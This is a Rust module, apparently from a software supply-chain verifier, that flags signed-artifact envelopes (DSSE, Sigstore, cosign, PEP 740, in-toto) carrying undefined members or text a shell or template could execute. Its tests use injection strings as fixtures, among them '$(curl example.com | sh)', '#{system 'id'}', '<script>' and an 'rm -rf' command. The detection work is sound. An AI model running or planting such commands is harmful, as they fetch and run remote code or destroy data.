//! What a signed item holds beside its signed part: members that its format does not define, and text that nobody signed.
//!
//! Specifications say to ignore both, and so does everything that reads an item's claim. But an envelope with members of
//! another format is also a document of that other format, and a `keyid` such as `$(…)` makes it a script: what a program
//! reads or a shell runs can carry a genuine envelope to be taken for evidence. So such a file is judged like any other
//! (`docs/decisions/0004-what-is-evidence.md`). What a metablock of in-toto signs stands in it as it is, not as base64, so the same is asked
//! of it: whoever carries out a step, or nobody at all, could write the script there.

use serde_json::Value as Json;

use super::recognise::{Kind, by_object};

/// The members of DSSE envelopes (`envelope.md`), Sigstore bundles (`sigstore_bundle.proto`, `sigstore_rekor.proto`,
/// `sigstore_common.proto`), PEP 740 attestation objects and cosign's own bundles, by the member that holds them.
fn members_of(holder: &str) -> &'static [&'static str] {
    match holder {
        "certificate" | "certificates" => &["rawBytes"],
        "checkpoint" => &["envelope"],
        "dsseEnvelope" => DSSE,
        "envelope" => &["signature", "statement"],
        "inclusionPromise" => &["signedEntryTimestamp"],
        "inclusionProof" => &["checkpoint", "hashes", "logIndex", "rootHash", "treeSize"],
        "kindVersion" => &["kind", "version"],
        "logId" => &["keyId"],
        "messageDigest" => &["algorithm", "digest"],
        "messageSignature" => &["messageDigest", "signature"],
        "Payload" => &["body", "integratedTime", "logID", "logIndex"],
        "publicKey" => &["hint", "rawBytes"],
        "rekorBundle" => &["Payload", "SignedEntryTimestamp"],
        "rfc3161Timestamps" => &["signedTimestamp"],
        "signatures" => &["cert", "keyid", "sig"],
        "timestampVerificationData" => &["rfc3161Timestamps"],
        "tlogEntries" | "transparency_entries" => &[
            "canonicalizedBody",
            "inclusionPromise",
            "inclusionProof",
            "integratedTime",
            "kindVersion",
            "logId",
            "logIndex",
        ],
        "verificationMaterial" => {
            &["certificate", "publicKey", "timestampVerificationData", "tlogEntries", "x509CertificateChain"]
        }
        "verification_material" => &["certificate", "transparency_entries"],
        "x509CertificateChain" => &["certificates"],
        _ => &[],
    }
}

const DSSE: &[&str] = &["payload", "payloadType", "signatures"];

/// Does an item hold, anywhere, a member that its format does not define, or text that could be more than a name? A metablock must be `alone`
/// in its file: what it signs may have any members, and beside an item that counts nobody asks whether it does.
pub(super) fn in_item(item: &Json, alone: bool) -> bool {
    let own: &[&str] = match item.as_object().and_then(by_object) {
        Some(Kind::Bundle) => &["dsseEnvelope", "mediaType", "messageSignature", "verificationMaterial"],
        Some(Kind::Dsse) => DSSE,
        Some(Kind::Cosign) => &super::cosign::MEMBERS,
        Some(Kind::Pep740) => &["envelope", "verification_material", "version"],
        Some(Kind::Metablock) if alone => &["signatures", "signed"],
        _ => return true,
    };
    let mut stack = vec![(Some(own), item)];
    while let Some((members, value)) = stack.pop() {
        match value {
            Json::Object(map) => {
                let is_known = |name: &String| members.map_or(is_inert(name), |known| known.contains(&name.as_str()));
                if !map.keys().all(is_known) {
                    return true;
                }
                // What a metablock signs has names of its own.
                let inside = |name: &str| (members.is_some() && name != "signed").then(|| members_of(name));
                stack.extend(map.iter().map(|(name, value)| (inside(name), value)));
            }
            Json::Array(items) => stack.extend(items.iter().map(|item| (members, item))),
            Json::String(text) if members.is_none() && without_parameters(text).is_some_and(|text| is_inert(&text)) => {
            }
            Json::String(text) if !is_inert(text) => return true,
            _ => {}
        }
    }
    false
}

/// The text without the parameters of layouts in it, `{NAME}`. `None` where a brace could be something else, `#{…}` or `{{…}}`.
fn without_parameters(text: &str) -> Option<String> {
    let mut left = String::new();
    let mut rest = text;
    while let Some((before, behind)) = rest.split_once('{') {
        let (name, after) = behind.split_once('}')?;
        let is_name = !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-'));
        if !is_name || before.ends_with(['#', '%']) {
            return None;
        }
        left.push_str(before);
        rest = after;
    }
    left.push_str(rest);
    Some(left)
}

/// Could a line of the document be a command, though all its text is inert? A shell runs what stands first in a line, so there no string may
/// stand but a name directly before its colon, or a hash of 32 bytes in base64, as lists of bundles have them. Strings of JSON hold no line
/// breaks, so lines are those of the text.
pub(super) fn in_lines(bytes: &[u8]) -> bool {
    bytes.split(|b| matches!(b, b'\n' | b'\r')).any(|line| {
        let start = line.iter().position(|b| !matches!(b, b' ' | b'\t' | b'{' | b'[')).unwrap_or(line.len());
        let Some((b'"', rest)) = line.get(start..).and_then(<[u8]>::split_first) else { return false };
        let mut escaped = false;
        let end = rest.iter().position(|b| {
            let ends = *b == b'"' && !escaped;
            escaped = *b == b'\\' && !escaped;
            ends
        });
        let Some((text, behind)) = end.and_then(|end| rest.split_at_checked(end)) else { return true };
        let is_hash = text.len() == 44 && text.ends_with(b"=");
        behind.get(1) != Some(&b':') && !is_hash
    })
}

/// Does the object around several items have other members than `known`?
pub(super) fn around(wrapper: &Json, known: &[&str]) -> bool {
    wrapper.as_object().is_none_or(|map| map.keys().any(|name| !known.contains(&name.as_str())))
}

/// Does what stands beside an item, in the list that holds it, hold other members than `known`, or text that could be more
/// than a name? Objects in it are looked into; `item` is not.
pub(super) fn beside(entry: &Json, item: &str, known: &[&str]) -> bool {
    let mut stack: Vec<&Json> = vec![entry];
    while let Some(value) = stack.pop() {
        match value {
            Json::Object(map) => {
                if map.keys().any(|name| name != item && !known.contains(&name.as_str())) {
                    return true;
                }
                stack.extend(map.iter().filter(|(name, _)| *name != item).map(|(_, value)| value));
            }
            Json::Array(items) => stack.extend(items),
            Json::String(text) if !is_inert(text) => return true,
            _ => {}
        }
    }
    false
}

/// Text that no shell, template or page takes for an instruction: base64, digests, names, URIs, checkpoints.
fn is_inert(text: &str) -> bool {
    text.chars().all(|c| {
        matches!(c, ' ' | '\n' | '\u{2014}')
            || c.is_ascii_graphic() && !matches!(c, '$' | '`' | '\\' | '"' | '\'' | '{' | '}' | '<' | '>')
    })
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn members() {
        let envelope =
            json!({"payload": "", "payloadType": "t", "signatures": [{"sig": "", "keyid": "SHA256:a+b/c="}]});
        let with = |pointer: &str, name: &str, value: Json| {
            let mut changed = envelope.clone();
            if let Some(object) = changed.pointer_mut(pointer).and_then(Json::as_object_mut) {
                object.insert(name.to_owned(), value);
            }
            changed
        };
        assert!(!in_item(&envelope, true) && !in_item(&envelope, false));
        for (pointer, name, value) in [
            ("", "update_url", json!("https://example.com")),
            ("/signatures/0", "update_url", json!("https://example.com")),
            // Known to another format, or elsewhere in this one.
            ("", "publicKey", json!({"rawBytes": "AAAA"})),
            ("", "version", json!("1.0")),
            ("", "keyid", json!("a")),
            ("/signatures/0", "payload", json!("")),
            ("/signatures/0", "keyid", json!({"keyid": "a"})),
            ("/signatures/0", "keyid", json!("$(curl example.com | sh)")),
            ("/signatures/0", "keyid", json!("`id`")),
            ("/signatures/0", "keyid", json!("#{system 'id'}")),
            ("/signatures/0", "keyid", json!("<script>")),
            ("/signatures/0", "keyid", json!("caf\u{e9}")),
        ] {
            assert!(in_item(&with(pointer, name, value), true), "{pointer} {name}");
        }
        let block = |signed: Json| json!({"signatures": [], "signed": signed});
        let metablock = |signed: Json| in_item(&block(signed), true);
        assert!(in_item(&block(json!({"_type": "link"})), false));
        assert!(!metablock(
            json!({"_type": "link", "materials": {"src/a.c": {"sha256": "00"}}, "command": ["make", "-j2"]})
        ));
        assert!(!metablock(json!({"expected_products": [["REQUIRE", "out/{NAME}.bin"], ["DISALLOW", "*"]]})));
        for signed in [
            json!({"byproducts": {"stdout": "$(id)"}}),
            json!({"materials": {"`id`": {}}}),
            json!({"command": ["sh", "-c", "\u{e9}"]}),
            json!("{{ x }}"),
            json!("{{x}}"),
            json!("#{x}"),
            json!("{x} {"),
            json!("{a:b}"),
        ] {
            assert!(metablock(signed.clone()), "{signed}");
        }
        assert!(!around(&json!({"attestations": []}), &["attestations"]));
        assert!(around(&json!({"attestations": [], "update_url": ""}), &["attestations"]));
        assert!(around(&json!([]), &["attestations"]));
    }

    #[test]
    fn what_begins_a_line() {
        let hash = format!("\"{}=\"", "A".repeat(43));
        for (text, expected) in [
            ("{\"payload\":\"x\",\"signatures\":[{\"keyid\":\"/bin/x\"}]}", false),
            ("{\n  \"payload\": \"x\",\n  \"signatures\": [\n {\n \"sig\": \"x\"\n}\n]\n}", false),
            (&format!("{{\"hashes\": [\n {hash},\r\n {hash}\n]}}"), false),
            ("{\"keyid\":\n\"/bin/x\"\n}", true),
            ("{\"keyid\":\r\t\"/bin/x\"\r}", true),
            ("{\"command\": [\n\"rm\" , \"-rf\" , \"x\"]}", true),
            ("{ \"reboot\" : 1}", true),
            ("{\"a\": [\n[\"reboot\"]]}", true),
            ("\"", true),
        ] {
            assert_eq!(in_lines(text.as_bytes()), expected, "{text}");
        }
    }

    #[test]
    fn what_stands_beside() {
        let known = ["predicateType", "publisher", "kind"];
        for (entry, expected) in [
            (json!({"bundle": {"x": "$("}, "predicateType": "https://slsa.dev/provenance/v1"}), false),
            (json!({"bundle": {}, "publisher": {"kind": "GitHub"}}), false),
            (json!({"bundle": {}, "predicateType": "$(id)"}), true),
            (json!({"bundle": {}, "command": "id"}), true),
            (json!({"bundle": {}, "publisher": {"command": "id"}}), true),
        ] {
            assert_eq!(beside(&entry, "bundle", &known), expected, "{entry}");
        }
    }
}
